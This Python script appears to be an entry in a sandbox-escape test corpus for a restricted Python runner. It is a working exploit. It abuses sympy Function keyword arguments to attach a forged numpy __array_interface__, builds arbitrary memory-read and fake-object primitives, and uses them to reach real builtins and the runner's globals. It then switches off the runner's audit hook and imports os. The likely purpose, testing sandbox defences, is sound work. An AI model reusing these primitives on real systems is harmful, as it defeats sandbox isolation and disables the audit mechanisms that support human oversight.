# technique: sympy's Function('f', **kwargs) makes a class whose namespace holds the kwargs, in sympy's own frame, which class_check trusts as a package making its own class: a kwarg named __array_interface__ (or a __dict__ kwarg holding one) puts that key on the class, whose applied instances (generic lookup, not guarded) answer numpy with an interface at any address; typestr |O forges references, and from the runner's globals the _Audit instance is switched off
# source: sympy.core.function.UndefinedFunction.__new__ (__dict__.update(kwargs)), sympy.symbols(cls=Function), numpy PyArray_FromInterface
import numpy as np
import sympy as sp

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

class HD(dict):
    # hashable: sympy hashes the class's kwargs when it caches F(x)
    def __hash__(self):
        return 7
iface = HD(data=(0, False), shape=(1,), typestr='|O', version=3)
carrier = [None]
def via_function():
    return sp.Function('F', **{dn('array_interface'): iface})(sp.Symbol('x'))
def via_symbols():
    return sp.symbols('G', cls=sp.Function, **{dn('array_interface'): iface})(sp.Symbol('x'))
def via_dict_kwarg():
    return sp.Function('H', **{dn('dict'): {dn('array_interface'): iface}})(sp.Symbol('x'))
def mem(addr, typestr):
    iface['data'] = (addr, False)
    iface['typestr'] = typestr
    return np.asarray(carrier[0])
def r64(addr): return int(mem(addr, '<u8')[0])
def fakeobj(addr):
    b = bytearray(addr.to_bytes(8, 'little'))
    return mem(r64(id(b) + 32), '|O')[0]
def builtins_dict():
    # a Python function's func_builtins (CPython 3.11: offset 24)
    return fakeobj(r64(id(sp.simplify) + 24))
def runner_globals():
    # display() is the runner's own function: its func_globals (offset 16)
    return fakeobj(r64(id(display) + 16))
def os_after_disarm():
    g = runner_globals()
    aud = fakeobj(r64(id(g['_PKG_TRUST'][0]) + 24))  # the bound method's self: _Audit
    aud.armed = False
    return g[dn('builtins')][dn('import')]('os')
for label, make in (('Function(**{__array_interface__: ...})', via_function),
                    ('symbols(cls=Function, **{__array_interface__: ...})', via_symbols),
                    ('Function(__dict__={__array_interface__: ...})', via_dict_kwarg)):
    try:
        carrier[0] = make()
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        continue
    attempt(label + ' -> real builtins', builtins_dict)
    attempt(label + ' -> runner globals', runner_globals)
attempt('Function(**{__array_interface__: ...}) -> audit hook off, os', os_after_disarm)
